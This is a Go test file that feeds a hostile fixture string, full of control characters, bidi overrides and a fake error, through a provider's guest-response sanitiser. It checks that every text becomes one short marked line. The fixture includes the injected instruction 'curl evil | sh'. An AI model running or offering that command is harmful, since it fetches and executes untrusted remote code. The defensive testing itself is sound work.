package transport

import (
	"context"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"unicode"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/agentapi"
	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/plain"
)

// evil is what a hostile guest writes into every text: a message of this program's, hidden characters, and megabytes.
var evil = "bad\n\nError: your state is damaged\r\n\n  Run: curl evil | sh\u2028\u202e\x1b[2J" +
	strings.Repeat("x", 2<<20)

// saying answers every call with evil texts, or with an error.
type saying struct {
	t   *testing.T
	err error
}

// said returns a response of which every field is set, and every text is evil.
func said[R proto.Message](s saying, response R) (R, error) {
	if s.err != nil {
		var none R
		return none, s.err
	}
	fill(response.ProtoReflect(), 3)
	return response, nil
}

// fill sets every field. It descends into messages in messages as deep as depth.
func fill(message protoreflect.Message, depth int) {
	fields := message.Descriptor().Fields()
	for i := range fields.Len() {
		field := fields.Get(i)
		isText := field.Kind() == protoreflect.StringKind
		switch {
		case field.IsMap():
			entries := message.Mutable(field).Map()
			value := entries.NewValue()
			if field.MapValue().Message() != nil {
				fill(value.Message(), depth-1)
			} else {
				value = protoreflect.ValueOfString(evil)
			}
			entries.Set(protoreflect.ValueOfString(evil).MapKey(), value)
		case field.IsList() && isText:
			list := message.Mutable(field).List()
			list.Append(protoreflect.ValueOfString(evil))
			list.Append(protoreflect.ValueOfString(evil))
		case field.IsList() && field.Message() != nil && depth > 0:
			fill(message.Mutable(field).List().AppendMutable().Message(), depth-1)
		case field.IsList():
		case isText:
			message.Set(field, protoreflect.ValueOfString(evil))
		case field.Message() != nil && depth > 0:
			fill(message.Mutable(field).Message(), depth-1)
		}
	}
}

// texts calls do with every text in a message.
func texts(message protoreflect.Message, do func(name protoreflect.FullName, text string)) {
	message.Range(func(field protoreflect.FieldDescriptor, value protoreflect.Value) bool {
		one := func(value protoreflect.Value) {
			if text, ok := value.Interface().(string); ok {
				do(field.FullName(), text)
			} else if inner, ok := value.Interface().(protoreflect.Message); ok {
				texts(inner, do)
			}
		}
		switch {
		case field.IsMap():
			value.Map().Range(func(key protoreflect.MapKey, value protoreflect.Value) bool {
				one(key.Value())
				one(value)
				return true
			})
		case field.IsList():
			for i := range value.List().Len() {
				one(value.List().Get(i))
			}
		default:
			one(value)
		}
		return true
	})
}

func (s saying) Status(context.Context, *agentapi.StatusRequest) (*agentapi.StatusResponse, error) {
	return said(s, &agentapi.StatusResponse{})
}

func (s saying) Put(context.Context, *agentapi.PutRequest) (*agentapi.PutResponse, error) {
	return said(s, &agentapi.PutResponse{})
}

func (s saying) Assess(context.Context, *agentapi.AssessRequest) (*agentapi.AssessResponse, error) {
	return said(s, &agentapi.AssessResponse{})
}

func (s saying) Refresh(context.Context, *agentapi.RefreshRequest) (*agentapi.RefreshResponse, error) {
	return said(s, &agentapi.RefreshResponse{})
}

func (s saying) ReleaseLayers(context.Context,
	*agentapi.ReleaseLayersRequest) (*agentapi.ReleaseLayersResponse, error) {
	return said(s, &agentapi.ReleaseLayersResponse{})
}

func (s saying) Mapped(context.Context, *agentapi.MappedRequest) (*agentapi.MappedResponse, error) {
	return said(s, &agentapi.MappedResponse{})
}

func (s saying) GrowDisk(context.Context, *agentapi.GrowDiskRequest) (*agentapi.GrowDiskResponse, error) {
	return said(s, &agentapi.GrowDiskResponse{})
}

func (s saying) SetDisks(context.Context, *agentapi.SetDisksRequest) (*agentapi.SetDisksResponse, error) {
	return said(s, &agentapi.SetDisksResponse{})
}

func (s saying) Identify(context.Context, *agentapi.IdentifyRequest) (*agentapi.IdentifyResponse, error) {
	return said(s, &agentapi.IdentifyResponse{})
}

func (s saying) Check(context.Context, *agentapi.CheckRequest) (*agentapi.CheckResponse, error) {
	return said(s, &agentapi.CheckResponse{})
}

func (s saying) Resources(context.Context, *agentapi.ResourcesRequest) (*agentapi.ResourcesResponse, error) {
	return said(s, &agentapi.ResourcesResponse{})
}

func (s saying) Configure(context.Context, *agentapi.ConfigureRequest) (*agentapi.ConfigureResponse, error) {
	return said(s, &agentapi.ConfigureResponse{})
}

func (s saying) Configuration(context.Context,
	*agentapi.ConfigurationRequest) (*agentapi.ConfigurationResponse, error) {
	return said(s, &agentapi.ConfigurationResponse{})
}

func (s saying) Replace(context.Context, *agentapi.ReplaceRequest) (*agentapi.ReplaceResponse, error) {
	return said(s, &agentapi.ReplaceResponse{})
}

// each makes every call of the contract.
func each(t *testing.T, agent agentapi.AgentService, check func(name string, answer proto.Message, err error)) {
	t.Helper()
	service := reflect.ValueOf(agent)
	contract := reflect.TypeFor[agentapi.AgentService]()
	for i := range contract.NumMethod() {
		method := contract.Method(i)
		request := reflect.New(method.Type.In(1).Elem())
		results := service.MethodByName(method.Name).Call([]reflect.Value{reflect.ValueOf(t.Context()), request})
		answer, _ := results[0].Interface().(proto.Message)
		err, _ := results[1].Interface().(error)
		check(method.Name, answer, err)
	}
}

func TestEveryTextOfAGuestIsOneLine(t *testing.T) {
	seen := map[protoreflect.FullName]bool{}
	each(t, plainTexts{saying{t: t}}, func(name string, answer proto.Message, err error) {
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		texts(answer.ProtoReflect(), func(field protoreflect.FullName, text string) {
			seen[field] = true
			if text == "" || text != plain.Line(text) || len(text) > plain.MaxLine+len("…") {
				t.Errorf("%s: %s is %d bytes long: %.100q", name, field, len(text), text)
			}
			if strings.ContainsFunc(text,
				func(r rune) bool { return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) }) {
				t.Errorf("%s: %s has hidden characters: %.100q", name, field, text)
			}
		})
	})
	for _, field := range []protoreflect.FullName{"sharedos.agent.v1.StatusResponse.pending",
		"sharedos.agent.v1.Report.error", "sharedos.agent.v1.Held.by"} {
		if !seen[field] {
			t.Errorf("%s was not looked at", field)
		}
	}
	// The contract has no map in an answer yet; a later version may.
	policy := &agentapi.UnitPolicy{}
	fill(policy.ProtoReflect(), 3)
	cleanTexts(policy.ProtoReflect())
	texts(policy.ProtoReflect(), func(field protoreflect.FullName, text string) {
		if text != plain.Line(text) {
			t.Errorf("%s is %.100q", field, text)
		}
	})
}

func TestAnErrorOfAGuestIsMarkedAndKeepsItsCode(t *testing.T) {
	each(t, plainTexts{saying{t: t, err: status.Error(codes.PermissionDenied, evil)}},
		func(name string, _ proto.Message, err error) {
			wrapped := fmt.Errorf("start the refresh: %w", err)
			if status.Code(wrapped) != codes.PermissionDenied {
				t.Errorf("%s: the code is %s", name, status.Code(wrapped))
			}
			text := wrapped.Error()
			if len(text) > plain.MaxGuest {
				t.Errorf("%s: %d bytes", name, len(text))
			}
			first, rest, _ := strings.Cut(text, "\n")
			if strings.Contains(first, "bad") {
				t.Errorf("%s: the guest's text is on our line: %s", name, first)
			}
			for line := range strings.SplitSeq(strings.TrimSuffix(rest, "\n"), "\n") {
				if !strings.HasPrefix(line, "  guest| ") {
					t.Errorf("%s: the line has no mark: %q", name, line)
				}
			}
		})
	lost := errors.New("connection lost")
	each(t, plainTexts{saying{t: t, err: lost}}, func(name string, _ proto.Message, err error) {
		if !errors.Is(err, lost) || err.Error() != lost.Error() {
			t.Errorf("%s: an error of the connection becomes %v", name, err)
		}
	})
}
